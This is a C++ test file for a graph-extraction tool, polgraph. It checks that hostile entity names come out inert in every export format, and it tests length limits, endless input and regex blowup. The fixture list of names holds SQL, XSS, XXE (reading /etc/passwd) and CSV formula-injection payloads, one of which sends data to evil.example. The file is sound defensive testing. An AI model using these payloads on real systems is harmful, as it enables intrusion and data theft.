// End-to-end, hostile input (issue 7): entity names built to break out of SQL,
// DOT, XML, JSON and CSV go from a triples file through the store into every
// export and the rendered SVG and come out as plain text; a pathological user
// rule runs in linear time; a rule that matches everywhere is capped with a
// warning; over-long sentences and items are refused with a clear message;
// inputs without an end (/dev/zero) are refused, not read forever.
#include <sys/wait.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include <graphviz/cgraph.h>
#include <rapidjson/document.h>
#include <rapidjson/stringbuffer.h>
#include <rapidjson/writer.h>
#include <catch2/catch.hpp>

#include "tests/cli_run.h"
#include "tests/dot_label.h"
#include "tests/graph_test_data.h"

namespace polgraph {
namespace {

using testing::TempDir;

constexpr char kPython[] = "/usr/bin/python3";  // Debian's, with the stdlib's XML and csv

using Run = testing::CliRun;

Run Shell(const TempDir& dir, const std::string& command) {
  return testing::RunShell(dir.File(""), command);
}

Run Polgraph(const TempDir& dir, const std::string& args) {
  return testing::RunPolgraph(dir.File(""), args);
}

/// Names built to break out of each output format (and SQL).
std::vector<std::string> HostileNames() {
  return {
      // SQL
      "Robert'); DROP TABLE items;--",
      "' OR '1'='1",
      "x\"; DELETE FROM entities; --",
      // DOT
      "A\" -> \"B",
      "evil\"]; n0 -> n1 [label=\"pwned",
      "} digraph x {",
      "<<b>html label</b>>",
      "ends in a backslash\\",
      "\\N \\G \\E \\L",
      // XML (GraphML, GEXF, SVG)
      "]]><script>alert(1)</script>",
      "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
      "<?xml-stylesheet href=\"x.xsl\"?>",
      "&amp; &#0; &lt;",
      // JSON
      "\"}],\"links\":[{\"source\":\"n0\",\"target\":\"n0",
      "line\xE2\x80\xA8separator",
      "\\u0000",
      // CSV (formula injection)
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
      "+SUM(1;2)",
      "-1+2",
      "@SUM(A1)",
      "=cmd|' /C calc'!A0",
  };
}

bool StartsLikeFormula(const std::string& name) {
  return !name.empty() && std::string("=+-@").find(name[0]) != std::string::npos;
}

// A triples file (as `polgraph extract` prints it) linking the names in a
// chain, one item per triple.
std::string TriplesFile(const std::vector<std::string>& names) {
  std::string text;
  for (size_t i = 0; i + 1 < names.size(); ++i) {
    rapidjson::StringBuffer buffer;
    rapidjson::Writer<rapidjson::StringBuffer> json(buffer);
    json.StartObject();
    json.Key("item");
    json.Int64(static_cast<int64_t>(i + 1));
    auto field = [&](const char* key, const std::string& value) {
      json.Key(key);
      json.String(value.c_str(), static_cast<rapidjson::SizeType>(value.size()));
    };
    field("id", "hostile-" + std::to_string(i));
    field("date", "2026-03-0" + std::to_string(1 + i % 9));
    field("subject", names[i]);
    field("subject_type", "person");
    field("relation", "met");
    field("object", names[i + 1]);
    field("object_type", "organization");
    field("sentence", names[i] + " met " + names[i + 1] + ".");
    field("rule", "test.hostile");
    field("source", "hostile.txt");
    json.EndObject();
    text += std::string(buffer.GetString(), buffer.GetSize()) + "\n";
  }
  return text;
}

using testing::Shown;

// Python (stdlib) reading an XML file, printing JSON: its element names and
// every text and attribute value. expat resolves no external entity.
constexpr char kXmlDump[] = R"(
import json, sys, xml.etree.ElementTree as ET
root = ET.parse(sys.argv[1]).getroot()
tags, texts = set(), []
for e in root.iter():
    tags.add(e.tag.split('}')[-1])
    texts.extend(v for v in [e.text] + list(e.attrib.values()) if v is not None)
print(json.dumps({"tags": sorted(tags), "texts": texts}))
)";

// Python's csv module reading a column (argv[2]) of a nodes CSV file.
constexpr char kCsvNames[] = R"(
import csv, json, sys
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    print(json.dumps([row[sys.argv[2]] for row in csv.DictReader(f)]))
)";

rapidjson::Document ParseJson(const std::string& text) {
  rapidjson::Document doc;
  doc.Parse(text.c_str(), text.size());
  INFO(text.substr(0, 2000));
  REQUIRE_FALSE(doc.HasParseError());
  return doc;
}

std::set<std::string> Strings(const rapidjson::Value& array) {
  std::set<std::string> out;
  for (const auto& v : array.GetArray()) out.emplace(v.GetString(), v.GetStringLength());
  return out;
}

TEST_CASE("hostile names come out inert in the store and every format", "[hostile]") {
  TempDir dir;
  const std::vector<std::string> names = HostileNames();
  const std::set<std::string> expected(names.begin(), names.end());
  std::ofstream(dir.File("t.jsonl")) << TriplesFile(names);
  const std::string db = "--db '" + dir.File("h.db") + "'";
  Run ingest = Polgraph(dir, "ingest --triples '" + dir.File("t.jsonl") + "' " + db);
  INFO(ingest.err);
  REQUIRE(ingest.exit_code == 0);

  SECTION("SQL: every table is there and every name stored as written") {
    Run stats = Polgraph(dir, "stats --json " + db);
    REQUIRE(stats.exit_code == 0);
    rapidjson::Document counts = ParseJson(stats.out);
    CHECK(counts["items"].GetInt64() == static_cast<int64_t>(names.size() - 1));
    CHECK(counts["triples"].GetInt64() == static_cast<int64_t>(names.size() - 1));
    CHECK(counts["entities"].GetInt64() == static_cast<int64_t>(names.size()));
  }
  SECTION("JSON: the node labels are the names") {
    Run json = Polgraph(dir, "export --format json " + db);
    REQUIRE(json.exit_code == 0);
    rapidjson::Document doc = ParseJson(json.out);
    std::set<std::string> labels;
    for (const auto& node : doc["nodes"].GetArray())
      labels.emplace(node["label"].GetString(), node["label"].GetStringLength());
    CHECK(labels == expected);
    CHECK(doc["links"].Size() == names.size() - 1);
  }
  SECTION("DOT: cgraph reads one node per name, labelled with it") {
    Run dot = Polgraph(dir, "export --format dot " + db);
    REQUIRE(dot.exit_code == 0);
    Agraph_t* graph = agmemread(dot.out.c_str());
    INFO(dot.out);
    REQUIRE(graph != nullptr);
    CHECK(static_cast<size_t>(agnnodes(graph)) == names.size());
    CHECK(static_cast<size_t>(agnedges(graph)) == names.size() - 1);
    std::set<std::string> labels;
    for (Agnode_t* node = agfstnode(graph); node; node = agnxtnode(graph, node))
      labels.insert(Shown(agget(node, const_cast<char*>("label"))));
    agclose(graph);
    CHECK(labels == expected);
  }
  SECTION("GraphML, GEXF and SVG: well-formed XML holding the names as text") {
    if (!std::filesystem::exists(kPython)) {
      WARN("no " << kPython << ": XML checks skipped");
      return;
    }
    std::ofstream(dir.File("xml_dump.py")) << kXmlDump;
    for (const char* file : {"h.graphml", "h.gexf", "h.svg"}) {
      CAPTURE(file);
      const bool svg = std::string(file) == "h.svg";
      Run out = Polgraph(
          dir, std::string(svg ? "render" : "export") + " -o '" + dir.File(file) + "' " + db);
      INFO(out.err);
      REQUIRE(out.exit_code == 0);
      Run dump = Shell(dir, std::string(kPython) + " '" + dir.File("xml_dump.py") + "' '" +
                                dir.File(file) + "'");
      INFO(dump.err);
      REQUIRE(dump.exit_code == 0);
      rapidjson::Document doc = ParseJson(dump.out);
      std::set<std::string> tags = Strings(doc["tags"]), texts = Strings(doc["texts"]);
      CHECK(tags.count("script") == 0);
      CHECK(tags.count("b") == 0);
      if (svg) continue;  // the picture may shorten names
      for (const std::string& name : names) {
        CAPTURE(name);
        CHECK(texts.count(name) == 1);
      }
    }
  }
  SECTION("CSV: Neo4j's names read back as written, Gephi's with formulas defused") {
    if (!std::filesystem::exists(kPython)) {
      WARN("no " << kPython << ": CSV check skipped");
      return;
    }
    std::ofstream(dir.File("csv_names.py")) << kCsvNames;
    for (const char* format : {"csv", "gephi-csv"}) {
      CAPTURE(format);
      bool gephi = std::string(format) == "gephi-csv";
      Run csv = Polgraph(dir, std::string("export --format ") + format + " -o '" +
                                  dir.File(format) + ".csv' " + db);
      REQUIRE(csv.exit_code == 0);
      Run read = Shell(dir, std::string(kPython) + " '" + dir.File("csv_names.py") + "' '" +
                                dir.File(format) + ".nodes.csv' " + (gephi ? "Label" : "name"));
      INFO(read.err);
      REQUIRE(read.exit_code == 0);
      std::set<std::string> expected;
      for (const std::string& name : names)
        expected.insert(gephi && StartsLikeFormula(name) ? "'" + name : name);
      CHECK(Strings(ParseJson(read.out)) == expected);
    }
  }
}

// A feed of one item with `sentences` sentences, each "A thanked B." for a
// different pair of people.
std::string ThanksFeed(int sentences) {
  const std::vector<std::string> first = {"Aigul",  "Berik", "Daniyar", "Gulnara", "Marat",
                                          "Nurlan", "Saule", "Timur",   "Yerlan",  "Zarina"};
  const std::vector<std::string> last = {"Abenov",    "Bekova",  "Dosanov", "Ermekova", "Ismailov",
                                         "Kairatova", "Mukanov", "Nurova",  "Omarov",   "Sadykova"};
  std::string feed = "04.03.2026, 09:15 812\nThanks all round\n";
  for (int i = 0; i < sentences; ++i) {
    auto name = [&](int k) { return first[k % 10] + " " + last[(k / 10) % 10]; };
    feed += name(i) + " thanked " + name(i + 1 + i / 100) + ". ";
    if (i % 50 == 49) feed += "\n";
  }
  return feed + "\n";
}

TEST_CASE("a rule that matches everywhere is capped with a warning", "[hostile]") {
  TempDir dir;
  std::ofstream(dir.File("thanks.json")) << R"json({"rules": [{"id": "user.thanked",
    "relation": "met", "pattern": "(?P<subject>{PERSON}) thanked (?P<object>{PERSON})"}]})json";
  std::ofstream(dir.File("feed.txt")) << ThanksFeed(1200);
  const std::string args =
      "--no-default-rules --rules '" + dir.File("thanks.json") + "' '" + dir.File("feed.txt") + "'";
  Run extract = Polgraph(dir, "extract " + args);
  REQUIRE(extract.exit_code == 0);
  size_t lines = 0;
  for (char c : extract.out) lines += c == '\n';
  CHECK(lines == 1000);
  CHECK(extract.err.find("polgraph: warning: " + dir.File("feed.txt") +
                         ":1: rule 'user.thanked' gave ") == 0);
  CHECK(extract.err.find(" triples in one item; kept the first 1000 (does its pattern match too "
                         "much?)\n") != std::string::npos);

  Run ingest = Polgraph(dir, "ingest --db '" + dir.File("t.db") + "' " + args);
  REQUIRE(ingest.exit_code == 0);
  CHECK(ingest.out.find("added 1 items, 1000 triples") != std::string::npos);
  CHECK(ingest.err.find("kept the first 1000") != std::string::npos);
}

TEST_CASE("a pathological user pattern runs in linear time (RE2)", "[hostile]") {
  // (a+)+$ backtracks exponentially in a backtracking engine on "aaa...a!";
  // RE2 is linear, so 100000 letters (and a sentence limit to pass) is quick.
  TempDir dir;
  std::ofstream(dir.File("patho.json")) << R"json({"rules": [{"id": "user.patho",
    "relation": "announced", "pattern": "(?P<subject>(a+)+$)"}]})json";
  std::string feed = "04.03.2026, 09:15 812\nA title\n";
  for (int i = 0; i < 10; ++i) feed += std::string(10000, 'a') + "!\n";
  std::ofstream(dir.File("feed.txt")) << feed;
  Run run = Polgraph(dir, "extract --no-default-rules --rules '" + dir.File("patho.json") + "' '" +
                              dir.File("feed.txt") + "'");
  INFO(run.err);
  CHECK(run.exit_code == 0);
  CHECK(run.out.empty());  // no line ends in "a" alone: nothing matches
}

TEST_CASE("over-long sentences and items are refused with a clear message", "[hostile]") {
  TempDir dir;
  const std::string header = "04.03.2026, 09:15 812\nA title\n";
  std::string sentence;
  while (sentence.size() <= 16384) sentence += "Marat Omarov met Saule Nurova and ";
  std::ofstream(dir.File("sentence.txt")) << header << "A first line.\n" << sentence << "more.\n";
  std::string item = header;
  for (int i = 0; i < 11000; ++i) item += "Marat Omarov met Saule Nurova in Astana on Monday.\n";
  std::ofstream(dir.File("item.txt")) << item << header;
  const std::string too_long_sentence = ":4: a sentence of " + std::to_string(sentence.size() + 5) +
                                        " bytes is longer than the limit of 16384 (are full stops "
                                        "missing?)";

  auto [file, message] = GENERATE_COPY(table<std::string, std::string>({
      {"sentence.txt", too_long_sentence},
      {"item.txt",
       ":1: item is longer than the limit of 524288 bytes (is an item header "
       "missing?)"},
  }));
  CAPTURE(file);
  Run strict = Polgraph(dir, "extract '" + dir.File(file) + "'");
  CHECK(strict.exit_code == 1);
  CHECK(strict.err == "polgraph: " + dir.File(file) + message + "\n");
  Run lenient =
      Polgraph(dir, "ingest --lenient --db '" + dir.File("l.db") + "' '" + dir.File(file) + "'");
  CHECK(lenient.exit_code == 0);
  CHECK(lenient.err.find("polgraph: warning: " + dir.File(file) + message) == 0);
  CHECK(lenient.err.find("polgraph: skipped 1 bad item(s)") != std::string::npos);
}

TEST_CASE("inputs without an end are refused with an error naming the file", "[hostile]") {
  TempDir dir;
  std::ofstream(dir.File("news.txt")) << "04.03.2026, 09:15\nA title\nMarat Omarov met Saule "
                                         "Nurova.\n";
  // Relative to the run's folder: the table is made once, the folder per run.
  const std::string news = " news.txt";
  auto [args, message] = GENERATE_COPY(table<std::string, std::string>({
      // A feed of NUL bytes has no line end: it once spun at 100% CPU forever.
      {"extract /dev/zero", "/dev/zero:1: no line end in 64 MiB: not a text file"},
      {"extract --lenient /dev/zero", "/dev/zero:1: no line end in 64 MiB: not a text file"},
      {"ingest --triples /dev/zero --db t.db",
       "/dev/zero:1: no line end in 64 MiB: not a text file"},
      // Rules and aliases files are read whole: they once grew without limit.
      {"extract --rules /dev/zero" + news,
       "/dev/zero: rules file is larger than the limit of 16 MiB"},
      {"extract --aliases /dev/zero" + news,
       "/dev/zero: aliases file is larger than the limit of 16 MiB"},
  }));
  CAPTURE(args);
  Run run = Polgraph(dir, args);
  CHECK(run.exit_code == 1);
  CHECK(run.err == "polgraph: " + message + "\n");
  CHECK(run.out.empty());
}

TEST_CASE("an over-long line is skipped to its end and reading goes on", "[hostile]") {
  TempDir dir;
  std::string long_line(3 << 20, 'x');  // over the 1 MiB line limit, with a line end
  std::ofstream(dir.File("news.txt"))
      << "04.03.2026, 09:15\nA title\n"
      << long_line << "\n"
      << "05.03.2026, 10:00\nTalks\nMarat Omarov met Saule Nurova in Astana.\n";
  Run run = Polgraph(dir, "extract --lenient --format tsv '" + dir.File("news.txt") + "'");
  CHECK(run.exit_code == 0);
  CHECK(run.err.find("line is longer than 1048576 bytes") != std::string::npos);
  CHECK(run.out.find("Marat Omarov\tperson\tmet\tSaule Nurova") != std::string::npos);
}

}  // namespace
}  // namespace polgraph
